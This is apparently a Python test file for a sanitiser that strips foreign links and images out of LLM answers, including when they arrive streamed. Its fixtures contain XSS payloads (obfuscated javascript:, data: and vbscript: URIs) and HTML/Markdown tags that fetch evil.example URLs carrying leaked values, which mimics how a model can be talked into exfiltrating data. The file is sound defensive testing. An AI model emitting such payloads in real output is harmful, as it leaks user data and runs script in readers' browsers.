"""Links and images in LLM output lose any target that is not the evidence's own uri."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from gateway.answer.sanitise import REMOVED, StreamNeutraliser, neutralise
from tests.helpers.properties import examples

OWN = "https://wiki.example/refunds"
ALLOWED = {OWN}
EVIL = "https://evil.example/c?d=RPL-14"


def test_every_kind_of_link_loses_a_foreign_target() -> None:
    cases = {
        f"See [the policy]({EVIL}) now.": "See the policy now.",
        f'See [the policy]({EVIL} "t") now.': "See the policy now.",
        f"![pixel]({EVIL})": "pixel",
        f"<{EVIL}>": REMOVED,
        f"Go to {EVIL} now": f"Go to {REMOVED} now",
        f'<a href="{EVIL}">policy</a> and <img src="{EVIL}">': "policy and ",
        "Mail www.evil.example/x please": f"Mail {REMOVED} please",
        f"[ref]: {EVIL}": f"[ref]: {REMOVED}",
    }
    for text, expected in cases.items():
        assert neutralise(text, ALLOWED) == expected, text


def test_the_evidence_uri_stays_a_link() -> None:
    for text in (f"[the policy]({OWN})", f"![chart]({OWN})", f"<{OWN}>", f"see {OWN}"):
        assert neutralise(text, ALLOWED) == text
    assert neutralise("Refunds take 5 days [1].", ALLOWED) == "Refunds take 5 days [1]."


# Evidence uris stored before ingest refused their scheme, disguised as a browser allows.
DANGEROUS = [
    "javascript:alert`1`",
    " JaVaScRiPt:alert`1`",
    "java&#115;cript:alert`1`",
    "&#x6A;avascript:alert`1`",
    "javascript&colon;alert`1`",
    "javascript\\:alert`1`",  # Markdown renders the escape away
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "vbscript:msgbox",
]
RELATIVE = ["/wiki/refunds", "docs/refund.md"]


def link_forms(target: str) -> list[str]:
    """Every way Markdown makes `target` a link (or an image)."""
    return [
        f"See [the policy]({target}) now.",
        f"See [the policy](  {target}) now.",
        f"See [the policy](\n{target}) now.",
        f"See [the\npolicy]({target}) now.",
        f"![pixel]({target})",
        f"<{target}>",
        f"See [the policy][1].\n\n[1]: {target}",
        f"See [the policy][1].\n\n[1]:\n  {target}",
        f"See [the policy].\n\n[the\npolicy]: <{target}>",
    ]


def followed(text: str) -> list[str]:
    """The targets of the links and images a CommonMark renderer makes of `text`, every
    scheme let through (markdown-it refuses `javascript:` itself; other renderers may not)."""
    markdown = MarkdownIt("commonmark")
    markdown.validateLink = lambda url: True
    found: list[str] = []

    def walk(tokens: list[Token]) -> None:
        for token in tokens:
            if token.type in ("link_open", "image"):
                found.append(str(token.attrs["href" if token.type == "link_open" else "src"]))
            walk(token.children or [])

    walk(markdown.parse(text))
    return found


def foreign(text: str) -> list[str]:
    return [t for t in followed(text) if urlsplit(t).scheme not in ("", "http", "https")]


def test_a_link_of_another_scheme_goes_even_when_it_is_an_evidence_uri() -> None:
    assert all(foreign(text) for text in link_forms(DANGEROUS[0]))  # each form is a link
    allowed = {OWN, *DANGEROUS}
    for uri in DANGEROUS:
        for text in link_forms(uri.strip()):
            whole = neutralise(text, allowed)
            assert foreign(whole) == [], (text, whole)
            stream = StreamNeutraliser(allowed)
            streamed = "".join(stream.feed(c) for c in text) + stream.finish()
            assert streamed == whole, text


def test_http_and_relative_evidence_uris_stay_links() -> None:
    allowed = {OWN, "HTTP://wiki.example/x", *RELATIVE}
    for target in allowed:
        for text in (f"[the policy]({target})", f"![chart]({target})", f"[x][1]\n\n[1]: {target}"):
            assert neutralise(text, allowed) == text
            assert followed(text) == [target]
    prose = "As [1]: see above, at 10:30 [2]: /wiki/other."
    assert neutralise(prose, allowed) == prose  # a word in a destination's place stays


PIECES = st.sampled_from(
    [
        "[1]: ",
        "]:",
        "javascript:alert`1` ",
        " JaVaScRiPt:x ",
        "](\n",
        "&#106;avascript:x ",
        "](//evil.example/q) ",
        "Refunds ",
        "are paid ",
        "[1] ",
        "[the policy](",
        EVIL,
        OWN,
        ") ",
        "![x](",
        "<",
        ">",
        "<a href='",
        "'>text</a> ",
        "www.evil.example/q ",
        ' <img\nsrc="//evil.example/q">',
        ' <iframe src="https:/\\evil.example/q">',
        "<video poster=",
        "<style>",
        " url(//evil.example/b) ",
        " //evil.example/q ",
        "a<b ",
        "(see above) ",
        "\n",
        " ",
        "a < b ",
    ]
)


@settings(max_examples=examples(300), deadline=None)
@given(st.lists(PIECES, max_size=30), st.data())
def test_streaming_equals_neutralising_the_whole(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    # Cut the same text anywhere, not only between the pieces it was made of.
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=12)))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    stream = StreamNeutraliser(ALLOWED)
    out = "".join(stream.feed(c) for c in chunks) + stream.finish()
    assert out == neutralise(text, ALLOWED)
    assert "evil.example" not in out
    assert foreign(out) == []
    assert fetching_tags(out) == []


def test_plain_text_is_held_back_only_for_the_word_being_written() -> None:
    stream = StreamNeutraliser(ALLOWED)
    assert stream.feed("Refunds are paid within fi") == "Refunds are paid within "
    assert stream.feed("ve days, see [the pol") == "five days, see "
    assert stream.feed(f"icy]({EVIL}) today.") == "the policy "
    assert stream.finish() == "today."


def test_a_closing_bracket_of_another_kind_does_not_end_a_tag() -> None:
    # Found by the property above: `)` once closed the `<`, a cut fell inside the tag, and
    # the streamed tag survived where the whole text lost it.
    for text in ("<a href=') >", f"<a href='{EVIL}') >x", f"[a) b]({EVIL}) and <img src=']' >"):
        for cut in range(len(text) + 1):
            stream = StreamNeutraliser(ALLOWED)
            out = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.finish()
            assert out == neutralise(text, ALLOWED), (text, cut)


def fetching_tags(text: str) -> list[str]:
    """The tags an HTML parser reads in `text` that could make a browser fetch: one with an
    attribute value, or a `<style>` or `<script>` (their content runs or fetches)."""
    found: list[str] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if any(value is not None for _, value in attrs) or tag in ("style", "script"):
                found.append(tag)

        handle_startendtag = handle_starttag

    parser = Tags()
    # A `>` after the answer, as a page around it would have. `<!` (a comment or doctype,
    # which fetches nothing) is escaped: this parser fails on some that browsers skip.
    parser.feed(text.replace("<!", "&lt;!") + "\n>")
    parser.close()
    return found


# HTML a model may be talked into writing: each tag fetches a foreign URL when rendered.
FETCHING_HTML = [
    '<img\nsrc="//evil.example/p.png?q=RPL-14">',
    '<a\nhref="//evil.example/?q=RPL-14">click</a>',
    '<iframe src="//evil.example/?q=RPL-14"></iframe>',
    '<video poster="//evil.example/p.png?q=RPL-14"></video>',
    '<iframe src="https:/\\evil.example/?q=RPL-14"></iframe>',
    '<svg><image href="//evil.example/i.png?q=RPL-14"/></svg>',
    '<div style="background:url(//evil.example/b.png?q=RPL-14)">x</div>',
    "<style>body { background: url(\\2f\\2f evil.example/b.png) }</style>",
    "<img src=&#47;&#47;evil.example/p.png\nalt=x>",
    '<img src="/wiki/p.png" srcset="/a.png 1x,\n//evil.example/b.png 2x">',
]


def test_html_that_can_fetch_loses_its_target_streamed_or_not() -> None:
    for html in FETCHING_HTML:
        assert fetching_tags(html), html  # each one fetches as written
        text = f"Refunds take 5 days [1]. {html} Done."
        whole = neutralise(text, ALLOWED)
        assert fetching_tags(whole) == [], (text, whole)
        assert "//evil.example" not in whole, (text, whole)  # nor is it left as a link
        assert whole.startswith("Refunds take 5 days [1]. ") and whole.endswith(" Done.")
        for cut in range(len(text) + 1):
            stream = StreamNeutraliser(ALLOWED)
            out = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.finish()
            assert out == whole, (text, cut)


def test_a_protocol_relative_or_backslashed_url_in_text_is_removed() -> None:
    cases = {
        "Fetch //evil.example/c?d=RPL-14 now": f"Fetch {REMOVED} now",
        "see url(//evil.example/b.png)": f"see url({REMOVED})",
        "Go to https:/\\evil.example/c now": f"Go to {REMOVED} now",
        "Go to https:\\\\evil.example/c now": f"Go to {REMOVED} now",
    }
    for text, expected in cases.items():
        assert neutralise(text, ALLOWED) == expected, text


def test_html_like_prose_and_code_stay() -> None:
    for text in (
        "x < y and y > z",
        "a <b> c </b> d<br/>",
        "Use List<String> here.",
        "if a<b and c>d then",
        "// a comment, and/or C:\\\\Users",
        f"<{OWN}>",
    ):
        assert neutralise(text, ALLOWED) == text
    # A tag left open on its line cannot be told from one that fetches on the next, so its
    # `<` no longer starts a tag; its text stays.
    assert neutralise("for (i = 0; i<n; i++)\n", ALLOWED) == "for (i = 0; i< n; i++)\n"
